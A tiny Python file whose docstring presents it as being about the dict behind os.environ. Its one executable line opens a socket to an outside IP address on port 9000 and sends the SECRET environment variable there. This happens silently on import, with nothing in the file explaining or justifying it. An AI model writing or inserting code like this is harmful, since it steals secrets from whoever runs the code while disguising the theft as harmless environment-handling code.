"""The dict behind os.environ."""
import os
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(os.environ._data[b"SECRET"])
